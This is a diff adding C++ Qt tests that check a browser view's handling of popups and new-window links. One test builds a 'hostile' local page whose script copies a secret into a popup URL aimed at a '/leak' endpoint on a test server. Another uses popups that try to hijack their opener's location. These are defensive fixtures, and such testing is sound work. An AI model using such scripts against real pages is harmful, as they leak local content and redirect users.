@@ -1,0 +1,169 @@
+// Pages meant for a new window open in the view that asked for them, under
+// the origin rules of the page that asked.
+#include "tests/browser/SiteWindowFixture.h"
+
+#include "platform/WebBrowser.h"
+#include "tests/support/TestSupport.h"
+
+#include <QElapsedTimer>
+#include <QHash>
+#include <QLineEdit>
+#include <QPointer>
+#include <QTest>
+#include <QUuid>
+#include <QWebEnginePage>
+
+namespace {
+
+class NewWindow : public SiteWindowFixture {
+protected:
+    bool waitForUrl(int view, const QString &url, int timeoutMs = 15000)
+    {
+        QElapsedTimer timer;
+        timer.start();
+        while (form->wb[view]->LocationURL() != url && timer.elapsed() < timeoutMs)
+            QTest::qWait(20);
+        return form->wb[view]->LocationURL() == url;
+    }
+
+    QTemporaryDir attack;
+};
+
+TEST_F(NewWindow, PopupsOfLocalPagesCarryNoLocalContentOut)
+{
+    const QByteArray secret =
+        "QUARROW-OWN-" + QUuid::createUuid().toByteArray(QUuid::WithoutBraces);
+    struct Case {
+        const char *name;
+        const char *open;
+    };
+    const Case cases[] = {
+        {"script", "window.open(target);"},
+        {"click", "var a = document.createElement('a'); a.href = target;"
+                  "a.target = '_blank'; a.textContent = 'go'; document.body.appendChild(a);"
+                  "a.click();"},
+    };
+    for (const Case &c : cases) {
+        SCOPED_TRACE(c.name);
+        const QString page = attack.path() + QString("/popup-%1.html").arg(c.name);
+        testsupport::writeFile(
+            page, "<html><head><title>hostile</title></head><body><p id=s>" + secret +
+                      "</p><script>\nvar target = '" + site.url("/leak").toUtf8() +
+                      "?d=' + encodeURIComponent(document.getElementById('s').textContent);\n" +
+                      c.open + "\ndocument.title = 'opened';\n</script></body></html>");
+        ASSERT_TRUE(form->wb[0]->Navigate2(page));
+        QTRY_VERIFY_WITH_TIMEOUT(form->wb[0]->page()->title() == "opened" ||
+                                     !form->wb[0]->LocationURL().startsWith("file:"),
+                                 15000);
+        // Let the popup go wherever it goes, and its requests arrive.
+        QTRY_VERIFY_WITH_TIMEOUT(form->wb[0]->pendingPopup() == nullptr, 15000);
+        QTest::qWait(1500);
+        EXPECT_FALSE(site.server().anyRequestContains(secret))
+            << site.server().rawRequests().join("\n---\n").toStdString();
+    }
+}
+
+TEST_F(NewWindow, BlankPopupsCloseSoonAndNeverMoveTheView)
+{
+    site.server().setRoute(
+        "/opener.html",
+        "<html><head><title>Opener</title></head><body><script>\n"
+        "function openOne(n) {\n"
+        "  var w = window.open('');\n"
+        "  if (!w) return;\n"
+        "  w.document.write('<p>popup ' + n + '</p><script>setTimeout(function(){'"
+        "    + 'try { opener.location = \"/moved-opener?n=' + n + '\"; } catch (e) {}'"
+        "    + 'location.replace(\"/moved-popup?n=' + n + '\");'"
+        "    + '}, 11000);<' + '/script>');\n"
+        "  w.document.close();\n"
+        "}\n"
+        "</script></body></html>");
+    const QString opener = site.url("/opener.html");
+    const int before = form->harvestsDone();
+    ASSERT_TRUE(form->wb[0]->Navigate(opener));
+    ASSERT_TRUE(waitForHarvests(before + 1));
+
+    WebBrowser *view = form->wb[0];
+    QHash<QWebEnginePage *, QElapsedTimer> born;
+    QList<QPointer<QWebEnginePage>> seen;
+    int mostPending = 0;
+    qint64 longestLife = 0;
+    auto watch = [&] {
+        int pending = 0;
+        for (QWebEnginePage *page : view->findChildren<QWebEnginePage *>()) {
+            if (page == view->page())
+                continue;
+            ++pending;
+            if (!born.contains(page)) {
+                born[page].start();
+                seen.append(page);
+            }
+        }
+        mostPending = std::max(mostPending, pending);
+        for (const QPointer<QWebEnginePage> &page : seen) {
+            if (page)
+                longestLife = std::max(longestLife, born[page.data()].elapsed());
+        }
+    };
+    for (int n = 0; n < 40; ++n) {
+        view->page()->runJavaScript(QString("openOne(%1)").arg(n));
+        for (int i = 0; i < 5; ++i) {
+            QTest::qWait(20);
+            watch();
+        }
+    }
+    EXPECT_GE(seen.size(), 1);
+    // Wait past the popups' own timers (11 s) and their patience (10 s).
+    QElapsedTimer timer;
+    timer.start();
+    while (timer.elapsed() < 13000) {
+        QTest::qWait(50);
+        watch();
+    }
+    EXPECT_LE(mostPending, 1);
+    EXPECT_LE(longestLife, WebBrowser::popupPatienceMs + 1500);
+    for (const QPointer<QWebEnginePage> &page : seen)
+        EXPECT_TRUE(page.isNull());
+    EXPECT_EQ(view->pendingPopup(), nullptr);
+    EXPECT_EQ(view->LocationURL(), opener);
+    for (const QString &path : site.server().requests())
+        EXPECT_FALSE(path.startsWith("/moved")) << path.toStdString();
+}
+
+TEST_F(NewWindow, LinksForANewWindowOpenInTheBrowserViewAndAreHarvested)
+{
+    struct Case {
+        const char *name;
+        const char *open;
+    };
+    const Case cases[] = {
+        {"link", "document.getElementById('l').click();"},
+        {"script", "window.open('/dir1/page2.html');"},
+    };
+    for (const Case &c : cases) {
+        SCOPED_TRACE(c.name);
+        site.server().setRoute("/blank.html",
+                               "<html><head><title>Links</title></head><body>"
+                               "<a id=l href=\"/dir1/page2.html\" target=\"_blank\">two</a>"
+                               "</body></html>");
+        int before = form->harvestsDone();
+        ASSERT_TRUE(form->wb[0]->Navigate(site.url("/blank.html")));
+        ASSERT_TRUE(waitForHarvests(before + 1));
+        ASSERT_TRUE(waitForUrl(0, site.url("/blank.html")));
+
+        before = form->harvestsDone();
+        form->wb[0]->page()->runJavaScript(c.open);
+        ASSERT_TRUE(waitForUrl(0, site.url("/dir1/page2.html")));
+        EXPECT_TRUE(waitForHarvests(before + 1));
+        QTRY_VERIFY_WITH_TIMEOUT(form->windowTitle().endsWith(" - Page Two"), 10000);
+        EXPECT_EQ(form->txtUrl->text(), site.url("/dir1/page2.html"));
+        // The harvest wrote the new page's source.
+        QTRY_VERIFY_WITH_TIMEOUT(
+            testsupport::readFile(programFile("source.htm")).contains("page three"), 10000);
+        EXPECT_EQ(form->wb[0]->pendingPopup(), nullptr);
+        // The page that asked is gone, not kept hidden.
+        QTRY_COMPARE_WITH_TIMEOUT(form->wb[0]->findChildren<QWebEnginePage *>().size(), 1, 5000);
+    }
+}
+
+} // namespace
